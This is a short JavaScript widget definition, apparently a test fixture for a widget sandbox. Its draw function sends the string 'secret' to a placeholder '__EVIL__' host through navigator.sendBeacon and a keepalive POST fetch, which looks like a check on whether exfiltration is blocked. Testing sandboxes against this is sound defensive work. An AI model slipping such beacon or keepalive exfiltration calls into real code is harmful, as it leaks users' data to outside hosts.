vitrine.defineWidget({
  async draw(root) {
    root.append('drawn');
    navigator.sendBeacon('__EVIL__/beacon', 'secret');
    fetch('__EVIL__/keepalive', { keepalive: true, method: 'POST', body: 'secret' }).catch(() => undefined);
    return { summary: 'drawn' };
  },
});
